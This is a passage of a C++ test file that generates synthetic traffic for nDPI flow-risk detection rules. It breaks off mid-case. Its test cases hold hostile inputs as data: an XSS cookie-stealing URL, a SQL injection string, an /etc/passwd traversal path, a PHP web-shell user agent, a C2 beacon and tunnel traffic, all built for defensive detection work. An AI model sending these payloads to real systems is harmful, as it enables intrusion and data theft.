// Rule-lab scenarios for the nDPI flow-risk rules (posture/rules/ndpi.yaml).
//
// The sensor runs Debian's nDPI 4.2 (libndpi.so.4.2.0) on every flow and gives
// the flow's risk bits to both ends of it (pipeline.cc report(): the client's
// ClientApp and, once the server has answered, the server's ServerService
// evidence carry the same bits), so each case puts its expectation on the
// local end the finding is about. nDPI is fed until the protocol is known and
// ndpi_extra_dissection_possible() says no more: the traffic below makes each
// risk appear within that window.
//
// XSS, SQL injection and suspicious URLs are returned only by
// ndpi_validate_url() (src/lib/ndpi_utils.c), which the library itself never
// calls (ndpiReader.c printFlow() does): sensor/pipeline/ndpi_adapter.cc
// calls it for every flow with an HTTP URL.
//
// Left out, and shipped disabled in ndpi.yaml: these rules cannot fire with
// nDPI 4.2 as the sensor runs it (ndpi_init_detection_module(ndpi_no_prefs),
// no lists loaded):
//   NDPI-URL-POSSIBLE-RCE-INJECTION
//     Same function, and its RCE branch (ndpi_is_rce_injection) is compiled
//     only #ifdef HAVE_PCRE; Debian's build has no PCRE (libndpi.so.4.2.0 does
//     not link libpcre, its ndpi_validate_url calls only libinjection_xss, the
//     SQLi check and strstr(url, "..")). ndpiReader does not flag it either.
//   NDPI-RISKY-ASN
//     Nothing in nDPI 4.2 sets NDPI_RISKY_ASN (the enum value and its
//     ndpi_risk2str name only); nDPI documents it as a placeholder for the
//     application above it to fill.
//   NDPI-RISKY-DOMAIN
//     Set only in ndpi_match_host_subprotocol() (src/lib/ndpi_main.c) when
//     ndpi_str->risky_domain_automa.ac_automa is not NULL; that automaton is
//     NULL after ndpi_init_detection_module() and built only by
//     ndpi_load_risk_domain_file() (ndpiReader -r FILE). The built-in host
//     lists do not set this risk.
//   NDPI-MALICIOUS-JA3, NDPI-MALICIOUS-SHA1-CERTIFICATE
//     Set in processClientServerHello() / processCertificate()
//     (src/lib/protocols/tls.c) only when malicious_ja3_automa /
//     malicious_sha1_automa are loaded, by ndpi_load_malicious_ja3_file() /
//     ndpi_load_malicious_sha1_file() (ndpiReader -j / -S); both NULL otherwise.
#include <string>
#include <utility>
#include <vector>

#include "bench/sitegen/apps.h"
#include "bench/sitegen/der.h"
#include "bench/sitegen/dns.h"
#include "bench/sitegen/packet_builder.h"
#include "bench/sitegen/rulelab.h"
#include "bench/sitegen/tls.h"

namespace sitegen::lab {
namespace {

std::string evidence(std::string_view risk) { return "nDPI flow risk '" + std::string(risk) + "'"; }

Bytes get(std::string_view target, std::string_view host, std::string_view ua) {
    return app::http_request("GET", target, "HTTP/1.1",
                             {{"Host", std::string(host)}, {"User-Agent", std::string(ua)}, {"Accept", "*/*"}});
}

Bytes page(Lab& lab, int status, std::string_view reason, std::size_t len) {
    return app::http_response("HTTP/1.1", status, reason,
                              {{"Server", "nginx/1.22.1"}, {"Content-Type", "text/html; charset=utf-8"}}, len,
                              lab.rng());
}

// ---- TLS ----

// A server certificate (subject CN, one SAN dNSName) issued by a public CA.
Bytes leaf_cert(Lab& lab, std::string_view cn, std::string_view san, std::string_view not_before,
                std::string_view not_after) {
    der::CertSpec c;
    c.subject_c = "US";
    c.subject_o = "Example Services LLC";
    c.subject_cn = std::string(cn);
    c.san_dns = std::string(san);
    c.issuer_c = "US";
    c.issuer_o = "Let's Encrypt";
    c.issuer_cn = "R11";
    c.not_before = std::string(not_before);
    c.not_after = std::string(not_after);
    return der::certificate(c, lab.rng());
}

// Appends extensions to a ClientHello record (one record, one handshake message).
Bytes with_extensions(Bytes rec, const std::vector<std::pair<std::uint16_t, Bytes>>& exts) {
    std::size_t at = 5 + 4 + 2 + 32;  // record + handshake headers, version, random
    at += 1 + rec[at];                                    // session id
    at += 2 + ((std::size_t{rec[at]} << 8) | rec[at + 1]);  // cipher suites
    at += 1 + rec[at];                                    // compression methods
    const std::size_t ext_len_at = at;
    std::size_t add = 0;
    Writer w;
    for (const auto& [id, data] : exts) {
        w.be16(id).be16(static_cast<unsigned>(data.size())).bytes(data);
        add += 4 + data.size();
    }
    const Bytes extra = w.take();
    rec.insert(rec.end(), extra.begin(), extra.end());
    auto bump16 = [&](std::size_t i) {
        const std::size_t v = ((std::size_t{rec[i]} << 8) | rec[i + 1]) + add;
        rec[i] = static_cast<std::uint8_t>(v >> 8);
        rec[i + 1] = static_cast<std::uint8_t>(v);
    };
    bump16(3);           // record length
    bump16(ext_len_at);  // extensions length
    const std::size_t hs = ((std::size_t{rec[6]} << 16) | (std::size_t{rec[7]} << 8) | rec[8]) + add;
    rec[6] = static_cast<std::uint8_t>(hs >> 16);
    rec[7] = static_cast<std::uint8_t>(hs >> 8);
    rec[8] = static_cast<std::uint8_t>(hs);
    return rec;
}

// A complete TLS conversation: hello, server flight, key exchange, one
// request and response, close_notify.
void tls_conversation(Lab& lab, const Host& c, const Host& s, std::uint16_t port, const tls::ClientHello& ch,
                      const Bytes& hello, const tls::ServerPolicy& policy) {
    tls::Session sess;
    const Bytes flight = tls::server_flight(ch, policy, sess, lab.rng());
    Bytes fin = tls::client_finish(sess, lab.rng());
    const Bytes req = tls::app_data(sess, 420, lab.rng());
    fin.insert(fin.end(), req.begin(), req.end());
    Bytes sfin = tls::server_finish(sess, lab.rng());
    const Bytes resp = tls::app_data(sess, 2400, lab.rng());
    sfin.insert(sfin.end(), resp.begin(), resp.end());
    lab.tcp(c, s, port,
            {client(hello), server(flight), client(std::move(fin)), server(std::move(sfin)),
             client(tls::close_notify(sess, lab.rng()))});
}

void tls_conversation(Lab& lab, const Host& c, const Host& s, std::uint16_t port, const tls::ClientHello& ch,
                      const tls::ServerPolicy& policy) {
    tls_conversation(lab, c, s, port, ch, ch.record, policy);
}

tls::ServerPolicy tls12_server(std::vector<Bytes> chain) {
    tls::ServerPolicy p;
    p.max_version = tls::kTls12;
    p.prefs = tls::default_server_prefs();
    p.chain = std::move(chain);
    return p;
}

// TLS alert record (level 2 = fatal).
Bytes tls_alert(std::uint8_t level, std::uint8_t description, std::uint16_t version) {
    Writer w;
    w.u8(21).be16(version).be16(2).u8(level).u8(description);
    return w.take();
}

// ---- DNS / raw IP ----

std::uint16_t dns_id(Lab& lab) { return lab.rng().u16(); }

// One IPv4 packet (header built here: fragment offset and MF are set by the caller).
Bytes ip4_packet(const Host& src, const Host& dst, std::uint8_t proto, std::uint16_t id, std::uint16_t frag,
                 ByteSpan payload, std::uint8_t ttl) {
    Writer w(20 + payload.size());
    w.u8(0x45).u8(0).be16(static_cast<unsigned>(20 + payload.size())).be16(id);
    w.be16(frag).u8(ttl).u8(proto).be16(0);
    w.bytes(src.ip.bytes()).bytes(dst.ip.bytes());
    const std::uint16_t c = inet_checksum({ByteSpan(w.data()).subspan(0, 20)});
    w.patch_be16(10, c);
    w.bytes(payload);
    return w.take();
}

void ip4(Lab& lab, const Host& src, const Host& dst, std::uint8_t proto, std::uint16_t id, std::uint16_t frag,
         ByteSpan payload) {
    const std::uint8_t ttl = src.remote ? 52 : 64;
    lab.frame(ethernet_frame(L2{src.mac, dst.mac}, kEtherIpv4, ip4_packet(src, dst, proto, id, frag, payload, ttl)));
}

// ICMP echo (type 8) or echo reply (type 0) with `data`.
Bytes icmp_echo(std::uint8_t type, std::uint16_t ident, std::uint16_t seq, ByteSpan data) {
    Writer w(8 + data.size());
    w.u8(type).u8(0).be16(0).be16(ident).be16(seq).bytes(data);
    Bytes b = w.take();
    const std::uint16_t c = inet_checksum({ByteSpan(b)});
    b[2] = static_cast<std::uint8_t>(c >> 8);
    b[3] = static_cast<std::uint8_t>(c);
    return b;
}

// The rest of an HTTP keep-alive connection that was opened before the
// capture started: request, the server's bare ACK, response, close.
void midstream_http(Lab& lab, const Host& c, const Host& s, std::uint16_t port, const Bytes& request,
                    const Bytes& response) {
    using namespace tcp_flag;
    const auto cport = static_cast<std::uint16_t>(49152 + lab.rng().below(16000));
    std::uint32_t cseq = lab.rng().u32(), sseq = lab.rng().u32();
    const auto sz = [](const Bytes& b) { return static_cast<std::uint32_t>(b.size()); };
    lab.tcp_raw(c, cport, s, port, cseq, sseq, kAck | kPsh, 502, {}, request);
    cseq += sz(request);
    lab.tcp_raw(s, port, c, cport, sseq, cseq, kAck, 509, {});
    lab.tcp_raw(s, port, c, cport, sseq, cseq, kAck | kPsh, 509, {}, response);
    sseq += sz(response);
    lab.tcp_raw(c, cport, s, port, cseq, sseq, kAck, 501, {});
    lab.tcp_raw(c, cport, s, port, cseq, sseq, kFin | kAck, 501, {});
    lab.tcp_raw(s, port, c, cport, sseq, cseq + 1, kFin | kAck, 509, {});
    lab.tcp_raw(c, cport, s, port, cseq + 1, sseq + 1, kAck, 501, {});
}

constexpr std::string_view kFirefox =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:122.0) Gecko/20100101 Firefox/122.0";

// A current OpenSSH's algorithm lists.
constexpr app::SshAlgorithms kSshModern{
    "curve25519-sha256,curve25519-sha256@libssh.org,diffie-hellman-group-exchange-sha256,"
    "diffie-hellman-group14-sha256",
    "rsa-sha2-512,rsa-sha2-256,ssh-ed25519", "chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr",
    "hmac-sha2-256-etm@openssh.com,hmac-sha2-256", "none,zlib@openssh.com"};

}  // namespace

void ndpi_cases(std::vector<Case>& out) {
    // nDPI's URL checks (ndpi_validate_url, which the sensor's nDPI adapter
    // calls for HTTP flows): libinjection on each query parameter, ".." in the path.
    out.push_back({"ndpi xss in a url", [](Lab& lab) {
                       const Host web = lab.host("xss-target-web", kOuiDell);
                       const Host pc = lab.host("xss-prober");
                       lab.tcp(pc, web, 80,
                               {client(get("/search.php?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
                                           "intranet.lab.example", kFirefox)),
                                server(page(lab, 200, "OK", 300))});
                       lab.expect("NDPI-URL-POSSIBLE-XSS", pc, evidence("XSS Attack"));
                   }});
    out.push_back({"ndpi sql injection in a url", [](Lab& lab) {
                       const Host web = lab.host("sqli-target-web", kOuiDell);
                       const Host pc = lab.host("sqli-prober");
                       lab.tcp(pc, web, 80,
                               {client(get("/product.php?id=1%27%20OR%20%271%27%3D%271", "shop.lab.example",
                                           "sqlmap/1.7.2#stable (https://sqlmap.org)")),
                                server(page(lab, 500, "Internal Server Error", 120))});
                       lab.expect("NDPI-URL-POSSIBLE-SQL-INJECTION", pc, evidence("SQL Injection"));
                   }});
    out.push_back({"ndpi path traversal url", [](Lab& lab) {
                       const Host web = lab.host("traversal-target-web", kOuiDell);
                       const Host pc = lab.host("traversal-prober");
                       lab.tcp(pc, web, 80,
                               {client(get("/static/../../../../etc/passwd", "files.lab.example", kFirefox)),
                                server(page(lab, 404, "Not Found", 90))});
                       lab.expect("NDPI-HTTP-SUSPICIOUS-URL", pc, evidence("HTTP Suspicious URL"));
                   }});
    out.push_back({"ndpi binary download", [](Lab& lab) {
                       const Host srv = lab.remote("exe-download-site");
                       const Host pc = lab.host("exe-downloader");
                       std::string body = "MZ";
                       body.push_back('\x90');
                       body += std::string(1, '\0') + "This program cannot be run in DOS mode.";
                       lab.tcp(pc, srv, 80,
                               {client(get("/files/putty-installer.exe", "downloads.example.net", kFirefox)),
                                server(app::http_response("HTTP/1.1", 200, "OK",
                                                          {{"Server", "Apache"},
                                                           {"Content-Type", "application/x-msdownload"}},
                                                          0, lab.rng(), body))});
                       lab.expect("NDPI-BINARY-APPLICATION-TRANSFER", pc, evidence("Binary Application Transfer"));
                   }});
    out.push_back({"ndpi numeric host", [](Lab& lab) {
                       const Host srv = lab.remote("numeric-host-server");
                       const Host pc = lab.host("numeric-host-client");
                       lab.tcp(pc, srv, 80,
                               {client(get("/update/check", srv.ip.str(), "Wget/1.21.3")),
                                server(page(lab, 200, "OK", 200))});
                       lab.expect("NDPI-HTTP-NUMERIC-IP-HOST", pc, evidence("HTTP Numeric IP Address"));
                   }});
    out.push_back({"ndpi suspicious user agent", [](Lab& lab) {
                       const Host web = lab.host("ua-webserver", kOuiDell);
                       const Host pc = lab.host("ua-attacker");
                       lab.tcp(pc, web, 80,
                               {client(get("/index.php", "wiki.lab.example", "<?php system($_GET['c']); ?>")),
                                server(page(lab, 200, "OK", 500))});
                       lab.expect("NDPI-HTTP-SUSPICIOUS-USER-AGENT", pc, evidence("HTTP Suspicious User-Agent"));
                   }});
    out.push_back({"ndpi suspicious header", [](Lab& lab) {
                       const Host srv = lab.remote("bot-c2-panel");
                       const Host pc = lab.host("bot-infected-pc");
                       lab.tcp(pc, srv, 80,
                               {client(app::http_request("POST", "/gate.php", "HTTP/1.1",
                                                         {{"Host", "update-cdn.example.org"},
                                                          {"User-Agent", std::string(kFirefox)},
                                                          {"Uuid", "4f1c2a9e-77b0-4a57-9d55-0c0f1e2d3a4b"},
                                                          {"Arch", "x64"},
                                                          {"Cores", "8"},
                                                          {"Content-Type", "application/x-www-form-urlencoded"},
                                                          {"Content-Length", "9"}},
                                                         "status=ok")),
                                server(page(lab, 200, "OK", 40))});
                       lab.expect("NDPI-HTTP-SUSPICIOUS-HEADER", pc, evidence("HTTP Suspicious Header"));
                   }});

    // ---- TLS ----
    // The server's own certificate observations (tls.self_signed, ...) stay on
    // the server; the client carries only nDPI's view of the flow.
    out.push_back({"ndpi tls self-signed", [](Lab& lab) {
                       const Host nas = lab.host("selfsigned-nas", kOuiRaspberry);
                       const Host pc = lab.host("selfsigned-client", kOuiApple);
                       der::CertSpec c;
                       c.subject_c = "TW";
                       c.subject_o = "NAS Appliance";
                       c.subject_cn = nas.ip.str();
                       c.self_signed = true;
                       c.san_ip = nas.ip;
                       c.not_before = "250601000000Z";
                       c.not_after = "260601000000Z";
                       const auto ch = tls::client_hello(tls::Stack::kApple, "", lab.rng());
                       tls_conversation(lab, pc, nas, 443, ch, tls12_server({der::certificate(c, lab.rng())}));
                       lab.expect("NDPI-TLS-SELFSIGNED-CERTIFICATE", pc, evidence("Self-signed Certificate"));
                   }});
    out.push_back({"ndpi tls weak cipher", [](Lab& lab) {
                       const Host srv = lab.remote("weak-cipher-appliance");
                       const Host pc = lab.host("weak-cipher-client", kOuiDell);
                       const auto ch = tls::client_hello(tls::Stack::kSchannel12, "vpn.partner-example.com", lab.rng());
                       tls::ServerPolicy p = tls12_server({leaf_cert(lab, "vpn.partner-example.com",
                                                                     "vpn.partner-example.com", "251001000000Z",
                                                                     "261001000000Z")});
                       p.prefs = {0x002f, 0x0035};  // RSA key exchange, AES-CBC only
                       tls_conversation(lab, pc, srv, 443, ch, p);
                       lab.expect("NDPI-TLS-WEAK-CIPHER", pc, evidence("Weak TLS Cipher"));
                   }});
    out.push_back({"ndpi tls expired", [](Lab& lab) {
                       const Host srv = lab.remote("expired-cert-site");
                       const Host pc = lab.host("expired-cert-client");
                       const auto ch = tls::client_hello(tls::Stack::kChromium, "shop.expired-example.com", lab.rng());
                       tls_conversation(lab, pc, srv, 443, ch,
                                        tls12_server({leaf_cert(lab, "shop.expired-example.com",
                                                                "shop.expired-example.com", "250915000000Z",
                                                                "251214235959Z")}));
                       lab.expect("NDPI-TLS-CERTIFICATE-EXPIRED", pc, evidence("TLS Expired Certificate"));
                   }});
    out.push_back({"ndpi tls about to expire", [](Lab& lab) {
                       const Host srv = lab.remote("expiring-cert-site");
                       const Host pc = lab.host("expiring-cert-client");
                       const auto ch = tls::client_hello(tls::Stack::kChromium, "billing.example.org", lab.rng());
                       tls_conversation(lab, pc, srv, 443, ch,
                                        tls12_server({leaf_cert(lab, "billing.example.org", "billing.example.org",
                                                                "251124080000Z", "260222080000Z")}));
                       lab.expect("NDPI-TLS-CERTIFICATE-ABOUT-TO-EXPIRE", pc,
                                  evidence("TLS Certificate About To Expire"));
                   }});
    out.push_back({"ndpi tls mismatch", [](Lab& lab) {
                       const Host srv = lab.remote("mismatch-cert-host");
                       const Host pc = lab.host("mismatch-cert-client");
                       const auto ch = tls::client_hello(tls::Stack::kChromium, "www.bakery-example.com", lab.rng());
                       tls_conversation(lab, pc, srv, 443, ch,
                                        tls12_server({leaf_cert(lab, "*.sharedhosting.example.net",
                                                                "*.sharedhosting.example.net", "251101000000Z",
                                                                "260430000000Z")}));
                       lab.expect("NDPI-TLS-CERTIFICATE-MISMATCH", pc, evidence("TLS Certificate Mismatch"));
                   }});
    out.push_back({"ndpi tls validity too long", [](Lab& lab) {
                       const Host app = lab.host("longcert-intranet-app", kOuiDell);
                       const Host pc = lab.host("longcert-client");
                       const auto ch = tls::client_hello(tls::Stack::kSchannel13, "erp.corp.example", lab.rng());
                       tls_conversation(lab, pc, app, 443, ch,
                                        tls12_server({leaf_cert(lab, "erp.corp.example", "erp.corp.example",
                                                                "240105090000Z", "290104090000Z")}));
                       lab.expect("NDPI-TLS-CERT-VALIDITY-TOO-LONG", pc, evidence("TLS Certificate Validity Too Long"));
                   }});
    out.push_back({"ndpi tls missing sni", [](Lab& lab) {
                       const Host srv = lab.remote("nosni-cloud");
                       const Host cam = lab.host("nosni-iot", kOuiRaspberry);
                       const auto ch = tls::client_hello(tls::Stack::kMbedTls, "", lab.rng());
                       tls_conversation(lab, cam, srv, 443, ch,
                                        tls12_server({leaf_cert(lab, "iot.vendor-example.com", "iot.vendor-example.com",
                                                                "251201000000Z", "260601000000Z")}));
                       lab.expect("NDPI-TLS-MISSING-SNI", cam, evidence("Missing SNI TLS Extension"));
                   }});
    out.push_back({"ndpi tls not https", [](Lab& lab) {
                       const Host broker = lab.remote("mqtts-broker");
                       const Host dev = lab.host("mqtts-sensor", kOuiRaspberry);
                       const auto ch = tls::client_hello(tls::Stack::kMbedTls, "mqtt.vendor-example.com", lab.rng());
                       tls_conversation(lab, dev, broker, 8883, ch,
                                        tls12_server({leaf_cert(lab, "mqtt.vendor-example.com",
                                                                "mqtt.vendor-example.com", "251201000000Z",
                                                                "260601000000Z")}));
                       lab.expect("NDPI-TLS-NOT-CARRYING-HTTPS", dev, evidence("TLS (probably) Not Carrying HTTPS"));
                   }});
    out.push_back({"ndpi tls esni", [](Lab& lab) {
                       const Host cdn = lab.remote("esni-front");
                       const Host pc = lab.host("esni-client");
                       const auto ch = tls::client_hello(tls::Stack::kOpenSsl3, "cdn.front-example.com", lab.rng());
                       Writer esni;  // draft-ietf-tls-esni-02: suite, key share, record digest, encrypted name
                       esni.be16(0x1301).be16(0x001d).be16(32).random(lab.rng(), 32);
                       esni.be16(32).random(lab.rng(), 32).be16(292).random(lab.rng(), 292);
                       Writer pad;
                       pad.zeros(12);
                       const Bytes hello = with_extensions(ch.record, {{0xffce, esni.take()}, {21, pad.take()}});
                       tls_conversation(lab, pc, cdn, 443, ch, hello,
                                        tls12_server({leaf_cert(lab, "cdn.front-example.com", "*.front-example.com",
                                                                "251201000000Z", "260601000000Z")}));
                       lab.expect("NDPI-TLS-SUSPICIOUS-ESNI-USAGE", pc, evidence("TLS Suspicious ESNI Usage"));
                   }});
    out.push_back({"ndpi tls uncommon alpn", [](Lab& lab) {
                       const Host peer = lab.remote("alpn-sync-peer");
                       const Host pc = lab.host("alpn-sync-client");
                       const auto ch = tls::client_hello(tls::Stack::kOpenSsl3, "syncthing", lab.rng(), "bep/1.0");
                       tls_conversation(lab, pc, peer, 22000, ch,
                                        tls12_server({leaf_cert(lab, "syncthing", "syncthing", "251201000000Z",
                                                                "260601000000Z")}));
                       lab.expect("NDPI-TLS-UNCOMMON-ALPN", pc, evidence("Uncommon TLS ALPN"));
                   }});
    out.push_back({"ndpi tls suspicious extension", [](Lab& lab) {
                       const Host srv = lab.remote("oldext-site");
                       const Host phone = lab.host("oldext-client", kOuiApple);
                       const auto ch = tls::client_hello(tls::Stack::kConscrypt, "api.example-app.com", lab.rng());
                       const Bytes hello = with_extensions(ch.record, {{30031, {}}});  // pre-standard Channel ID
                       tls_conversation(lab, phone, srv, 443, ch, hello,
                                        tls12_server({leaf_cert(lab, "api.example-app.com", "api.example-app.com",
                                                                "251201000000Z", "260601000000Z")}));
                       lab.expect("NDPI-TLS-SUSPICIOUS-EXTENSION", phone, evidence("TLS Suspicious Extension"));
                   }});
    // nDPI 4.2 (tls.c) flags a ClientHello older than TLS 1.2; the client then
    // has the sensor's own "tls.version.1.0" observation, a server that turns
    // it away with a protocol_version alert does not.
    out.push_back({"ndpi tls obsolete version", [](Lab& lab) {
                       const Host web = lab.host("tls10-rejecting-server", kOuiDell);
                       const Host pc = lab.host("tls10-client");
                       const auto ch = tls::client_hello(tls::Stack::kLegacy10, "intranet.corp.example", lab.rng());
                       lab.tcp(pc, web, 443, {client(ch.record), server(tls_alert(2, 70, tls::kTls10))});
                       lab.expect("NDPI-TLS-OBSOLETE-VERSION", web, evidence("Obsolete TLS Version (1.1 or older)"));
                   }});
    out.push_back({"ndpi tls fatal alert", [](Lab& lab) {
                       const Host prn = lab.host("alert-printer", kOuiHp);
                       const Host pc = lab.host("alert-client");
                       const auto ch = tls::client_hello(tls::Stack::kChromium, "printer.corp.example", lab.rng());
                       lab.tcp(pc, prn, 443, {client(ch.record), server(tls_alert(2, 40, tls::kTls12))});
                       lab.expect("NDPI-TLS-FATAL-ALERT", pc, evidence("TLS Fatal Alert"));
                   }});

    // ---- DNS ----
    out.push_back({"ndpi dga lookup", [](Lab& lab) {
                       const Host dns = lab.remote("dga-resolver");
                       const Host pc = lab.host("dga-infected-pc");
                       const std::uint16_t id = dns_id(lab);
                       const Ip4 c2 = Ip4::of(203, 0, 113, 77);
                       lab.udp(pc, 53111, dns, 53, dns::query(id, "qxkvbzrmwtplhn.com", dns::kTypeA));
                       lab.udp(dns, 53, pc, 53111,
                               dns::response(id, "qxkvbzrmwtplhn.com", dns::kTypeA, {&c2, 1}, {}, 300));
                       lab.expect("NDPI-SUSPICIOUS-DGA-DOMAIN", pc, evidence("Suspicious DGA Domain name"));
                   }});
    // nDPI 4.2 (dns.c) flags obsolete / unusual record types (NULL, HINFO, ...)
    // in a response: an iodine tunnel answers its NULL queries with NULL records.
    out.push_back({"ndpi dns tunnel null records", [](Lab& lab) {
                       const Host dns = lab.remote("tunnel-resolver");
                       const Host pc = lab.host("dns-tunnel-client");
                       const std::uint16_t id = dns_id(lab);
                       const std::string name = "paaahuhcsm2ldgbr.t.tunnel-example.net";
                       constexpr std::uint16_t kNull = 10;  // the record type iodine tunnels through
                       lab.udp(pc, 53112, dns, 53, dns::query(id, name, kNull));
                       Bytes answer = dns::query(id, name, kNull);
                       Writer rr;
                       rr.be16(0xc00c).be16(kNull).be16(1).be32(0).be16(180).random(lab.rng(), 180);
                       const Bytes r = rr.take();
                       answer.insert(answer.end(), r.begin(), r.end());
                       answer[2] = 0x85;  // response, authoritative, RD
                       answer[3] = 0x80;  // RA
                       answer[7] = 1;     // ANCOUNT
                       lab.udp(dns, 53, pc, 53112, answer);
                       lab.expect("NDPI-DNS-SUSPICIOUS-TRAFFIC", pc, evidence("Suspicious DNS Traffic"));
                   }});
    out.push_back({"ndpi dns large response", [](Lab& lab) {
                       const Host dns = lab.remote("txt-resolver");
                       const Host pc = lab.host("txt-lookup-client");
                       const std::uint16_t id = dns_id(lab);
                       const std::string name = "corp-example.com";
                       dns::MessageBuilder m(id, 0x8180);
                       m.question(name, dns::kTypeTxt);
                       const std::vector<std::string> txt{
                           "v=spf1 include:_spf.mail-example.com include:spf.crm-example.net ip4:198.51.100.0/24 "
                           "ip4:203.0.113.0/24 -all",
                           "google-site-verification=Xq9mR2vT7LkP4sW8zN1cB6yH3jF5dA0eG2iU7oK9rM4",
                           "MS=ms48291736",
                           "docusign=5e2b9a71-3c4d-4f8e-a1b2-6c7d8e9f0a1b",
                           "atlassian-domain-verification=Qm7Yx2Vb9Nc4Lk8Jh3Gf6Dd1Ss5Aa0Pp2Oo7Ii9Uu4Yy6Tt",
                           "apple-domain-verification=k3J8h2G7f1D6s4A9",
                           "facebook-domain-verification=9x8c7v6b5n4m3l2k1j0h9g8f7d6s5a",
                           "stripe-verification=1f2e3d4c5b6a79880716253443526170819aabbccddeeff00112233"};
                       m.txt(dns::MessageBuilder::Section::kAnswer, name, 3600, txt);
                       lab.udp(pc, 53113, dns, 53, dns::query(id, name, dns::kTypeTxt));
                       lab.udp(dns, 53, pc, 53113, m.finish());
                       lab.expect("NDPI-DNS-LARGE-PACKET", pc, evidence("DNS Packet Larger Than 512 bytes"));
                   }});
    out.push_back({"ndpi dns fragmented response", [](Lab& lab) {
                       const Host dns = lab.remote("dnssec-resolver");
                       const Host pc = lab.host("dnssec-client");
                       const std::uint16_t id = dns_id(lab);
                       const std::string name = "keys.corp-example.com";
                       dns::MessageBuilder m(id, 0x8180);
                       m.question(name, dns::kTypeTxt);
                       std::vector<std::string> txt;
                       for (int i = 0; i < 8; ++i) {  // DKIM-style public keys, ~1.8 kB in all
                           std::string k = "v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA";
                           for (int j = 0; j < 170; ++j)
                               k.push_back("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                                               [lab.rng().below(64)]);
                           txt.push_back(std::move(k));
                       }
                       m.txt(dns::MessageBuilder::Section::kAnswer, name, 3600, txt);
                       const Bytes msg = m.finish();
                       lab.udp(pc, 53114, dns, 53, dns::query(id, name, dns::kTypeTxt));
                       const Bytes dgram = udp4(dns.ip, pc.ip, 53, 53114, msg);
                       const std::uint16_t ipid = lab.rng().u16();
                       const std::size_t first = 1480;  // MTU 1500: 185 eight-byte blocks
                       ip4(lab, dns, pc, kProtoUdp, ipid, 0x2000, ByteSpan(dgram).subspan(0, first));
                       ip4(lab, dns, pc, kProtoUdp, ipid, static_cast<std::uint16_t>(first / 8),
                           ByteSpan(dgram).subspan(first));
                       lab.expect("NDPI-DNS-FRAGMENTED", pc, evidence("Fragmented DNS Message"));
                   }});
    // nDPI 4.2 (dns.c) calls a query with answer or authority records
    // malformed unless it is an UPDATE: a standard NOTIFY, which carries the
    // SOA in the answer section, is one.
    out.push_back({"ndpi dns notify", [](Lab& lab) {
                       const Host primary = lab.host("dns-primary", kOuiDell);
                       const Host secondary = lab.host("dns-secondary", kOuiDell);
                       // RFC 1996 NOTIFY (opcode 4, AA) carrying the zone's new SOA in the answer section.
                       Writer w;
                       w.be16(lab.rng().u16()).be16(0x2400).be16(1).be16(1).be16(0).be16(0);
                       const auto name = [&w](std::string_view dotted) {
                           std::size_t at = 0;
                           while (at < dotted.size()) {
                               const std::size_t dot = std::min(dotted.find('.', at), dotted.size());
                               w.u8(static_cast<unsigned>(dot - at)).str(dotted.substr(at, dot - at));
                               at = dot + 1;
                           }
                           w.u8(0);
                       };
                       name("corp.example");
                       w.be16(6).be16(1);
                       w.be16(0xc00c).be16(6).be16(1).be32(3600);
                       const std::size_t rdlen_at = w.size();
                       w.be16(0);
                       name("ns1.corp.example");
                       name("hostmaster.corp.example");
                       w.be32(2026020201).be32(3600).be32(900).be32(1209600).be32(300);
                       w.patch_be16(rdlen_at, static_cast<unsigned>(w.size() - rdlen_at - 2));
                       const Bytes notify = w.take();
                       lab.udp(primary, 41853, secondary, 53, notify);
                       Bytes ack(notify.begin(), notify.begin() + 12);
                       ack[2] = 0xa4;  // response, NOTIFY, AA
                       ack[7] = 0;     // no answer in the acknowledgement
                       const Bytes q(notify.begin() + 12, notify.begin() + 12 + 18);  // the question
                       ack.insert(ack.end(), q.begin(), q.end());
                       lab.udp(secondary, 53, primary, 41853, ack);
                       lab.expect("NDPI-MALFORMED-PACKET", primary, evidence("Malformed Packet"));
                   }});
    out.push_back({"ndpi dns non-printable name", [](Lab& lab) {
                       const Host dns = lab.remote("idn-resolver");
                       const Host pc = lab.host("idn-client");
                       const std::uint16_t id = dns_id(lab);
                       const std::string name = "b\xc3\xa4" "ckerei-m\xc3\xbc" "ller.example";  // UTF-8, not punycode
                       lab.udp(pc, 53116, dns, 53, dns::query(id, name, dns::kTypeA));
                       lab.udp(dns, 53, pc, 53116, dns::response(id, name, dns::kTypeA, {}, {}, 0));
                       lab.expect("NDPI-INVALID-CHARACTERS", pc, evidence("Text Contains Non-Printable Characters"));
                   }});

    // ---- ICMP ----
    // nDPI 4.2 (ndpi_main.c, ICMP guessing) computes the entropy of an ICMP
    // payload and flags it above 7 bits per byte: an encrypted ICMP tunnel.
    out.push_back({"ndpi icmp tunnel entropy", [](Lab& lab) {
                       const Host relay = lab.remote("icmp-tunnel-relay");
                       const Host pc = lab.host("icmp-tunnel-client");
                       const std::uint16_t ident = lab.rng().u16();
                       for (std::uint16_t seq = 1; seq <= 2; ++seq) {
                           Bytes data(1024);
                           lab.rng().fill(data.data(), data.size());
                           ip4(lab, pc, relay, kProtoIcmp, lab.rng().u16(), 0x4000, icmp_echo(8, ident, seq, data));
                           lab.rng().fill(data.data(), data.size());
                           ip4(lab, relay, pc, kProtoIcmp, lab.rng().u16(), 0x4000, icmp_echo(0, ident, seq, data));
                       }
                       lab.expect("NDPI-SUSPICIOUS-ENTROPY", pc, evidence("Suspicious Entropy"));
                   }});

    // ---- SSH ----
    // nDPI 4.2 (ssh.c) takes the first identification string it sees for the
    // client's and the second for the server's, whichever side sent it; both
    // sides send theirs on connect, and here the client's arrives first.
    out.push_back({"ndpi ssh obsolete client", [](Lab& lab) {
                       const Host srv = lab.host("ssh-modern-server", kOuiDell);
                       const Host pc = lab.host("ssh-old-client");
                       const app::SshAlgorithms old{"diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1",
                                                    "ssh-rsa,ssh-dss", "aes128-ctr,aes256-ctr,aes128-cbc",
                                                    "hmac-sha1,hmac-sha2-256", "none,zlib@openssh.com"};
                       lab.tcp(pc, srv, 22,
                               {client(app::ssh_banner("SSH-2.0-OpenSSH_5.3")),
                                server(app::ssh_banner("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3")),
                                client(app::ssh_kexinit(old, lab.rng())),
